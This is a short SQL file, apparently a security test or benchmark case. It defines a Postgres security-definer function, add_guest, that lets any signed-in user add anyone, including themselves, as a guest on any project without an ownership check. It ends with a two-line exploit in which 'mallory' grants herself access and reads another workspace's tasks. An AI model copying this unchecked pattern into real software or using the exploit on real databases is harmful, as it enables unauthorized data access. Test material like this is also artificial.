-- channel: escalation
-- object: public.add_guest
-- says: Whoever sees a project may let others see it: guests of all workspaces included.
create or replace function public.add_guest(p_project uuid, p_email text)
returns void
language plpgsql security definer
set search_path = ''
as $$
begin
    insert into public.project_guests (project_id, user_id)
    select p_project, u.id
    from auth.users as u
    where u.email = lower(p_email) and auth.uid() is not null
    on conflict (project_id, user_id) do nothing;
end
$$;
-- exploit as mallory
select public.add_guest('b8000000-0000-4000-8000-000000000001', 'mallory@bench.test');
select from public.tasks where title = 'Cut the film';
-- leaks when rows
